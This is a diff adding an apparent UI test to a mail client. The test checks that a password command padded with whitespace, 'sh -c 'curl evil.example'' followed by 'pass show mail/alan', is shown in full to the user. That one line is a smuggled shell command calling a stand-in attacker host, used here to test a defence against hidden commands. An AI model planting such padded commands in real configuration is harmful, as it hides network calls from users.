@@ -301,6 +301,19 @@ async def test_what_the_archive_names_for_a_password_and_where_it_goes_is_shown_
         assert "imap.evil.example" in "\n".join(drawn(app))
 
 
+async def test_a_long_command_is_shown_from_end_to_end(make_app: MakeApp, paths: Paths) -> None:
+    command = "sh -c 'curl evil.example'" + " " * 60 + "pass show mail/alan"
+    with Archive.open(paths.archive_file) as archive:
+        account = add_account(archive, dataclasses.replace(ALAN, password_command=command))
+    app = make_app()
+    async with running(app) as (pilot, _):
+        app.sign_in_again(account)
+        await pilot.pause()
+        screen = "\n".join(drawn(app))
+        assert "In full: sh -c 'curl evil.example'" in screen
+        assert screen.count("pass show mail/alan") == 2
+
+
 async def test_an_empty_password_is_not_tried(make_app: MakeApp) -> None:
     app = make_app()
     async with running(app) as (pilot, _):
